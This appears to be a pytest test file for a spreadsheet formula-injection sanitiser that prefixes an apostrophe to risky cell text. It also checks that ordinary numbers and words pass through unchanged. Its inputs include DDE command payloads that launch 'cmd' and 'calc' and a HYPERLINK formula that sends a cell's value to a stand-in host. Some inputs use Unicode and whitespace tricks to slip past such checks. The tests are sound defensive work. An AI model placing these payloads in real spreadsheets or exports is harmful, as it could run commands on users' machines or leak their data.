from __future__ import annotations

import pytest

from core.formulas import harmless


@pytest.mark.parametrize(
    "text",
    [
        "=1+1",
        "+49 30 1",
        "-cmd|'x'",
        "- light and warm",
        "@SUM(A1)",
        "\tx",
        "\rx",
        "\n=x",
        "  =1+1",
        "\u00a0=1+1",
        "\u200b=1+1",
        "\ufeff=1+1",
        "\x00=1+1",
        "＝1+1",
        "＋1+1",
        "－1+1",
        "＠SUM(A1)",
        '=HYPERLINK("http://x.example?"&A1,"price")',
        "+1-2",
        "-2+3+cmd|' /C calc'!A0",
    ],
)
def test_what_would_be_run_gets_an_apostrophe(text: str) -> None:
    assert harmless(text) == f"'{text}"


@pytest.mark.parametrize(
    "text",
    ["", "-12", "+1.5e3", "-1,5", "-1.299,00", "-.5", "-5 %", "-", "--", "a=b", "1-2", "'=x", "é"],
)
def test_numbers_and_plain_words_stay_as_they_are(text: str) -> None:
    assert harmless(text) == text
